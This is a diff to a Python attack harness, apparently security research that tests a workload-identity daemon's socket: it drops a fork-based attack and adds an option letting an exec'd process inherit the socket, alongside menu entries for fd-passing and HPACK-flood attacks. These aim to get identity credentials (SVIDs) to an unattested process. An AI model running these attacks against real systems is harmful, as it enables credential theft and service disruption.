@@ -341,34 +341,17 @@ def fork_child_writes(path):
     return attack(body)
 
 
-def fork_holder(path):
-    """The connecting process stays itself (no exec) and asks for its own
-    SVID, but a forked child holds a copy of the connection and reads what
-    comes back: the answer would reach a process that was never attested."""
-
-    def body(w):
-        s = connect(path)
-        child = os.fork()
-        if child == 0:
-            def hold():
-                facts = fetch_over(s, write=False, read_secs=4.0, may_write=False)
-                put(w, child_got_svid=facts.get("got_svid", False))
-            guarded(w, hold)
-        put(w, pids=[child], holder_pid=child)
-        facts = fetch_over(s)
-        put(w, **facts)
-
-    return attack(body)
-
-
-def fork_parent_writes(path, junk_blocks):
+def fork_parent_writes(path, junk_blocks, inheritable=False):
     """1b: the connecting process writes the whole call, then execs sleep;
     the forked child only reads. `junk_blocks` expensive header blocks on
     another stream first delay the daemon past the exec (the HPACK cost of
-    section 2 makes that cheap for the attacker)."""
+    section 2 makes that cheap for the attacker). With `inheritable`, sleep
+    keeps its copy of the socket across the exec."""
 
     def body(w):
         s = connect(path)
+        if inheritable:
+            s.set_inheritable(True)
         parent = os.getpid()
         if os.fork() == 0:
             def child():
@@ -708,13 +691,13 @@ def main():
     p.add_argument("--fields", type=int, default=480)
     p.add_argument("--junk-blocks", type=int, default=0)
     p.add_argument("--wait", action="store_true", help="fetch: wait for a line on stdin first")
+    p.add_argument("--inheritable", action="store_true", help="fork-parent-writes: sleep keeps the socket")
     a = p.parse_args()
     run = {
         "fetch": lambda: fetch(a.socket, a.wait),
         "fork-child-writes": lambda: fork_child_writes(a.socket),
-        "fork-parent-writes": lambda: fork_parent_writes(a.socket, a.junk_blocks),
+        "fork-parent-writes": lambda: fork_parent_writes(a.socket, a.junk_blocks, a.inheritable),
         "scm-rights": lambda: scm_rights(a.socket),
-        "fork-holder": lambda: fork_holder(a.socket),
         "fetch-hold": lambda: fetch_hold(a.socket),
         "pidfd-getfd": lambda: pidfd_getfd(a.socket),
         "hpack": lambda: hpack_flood(a.socket, a.connections, a.secs, a.fields),
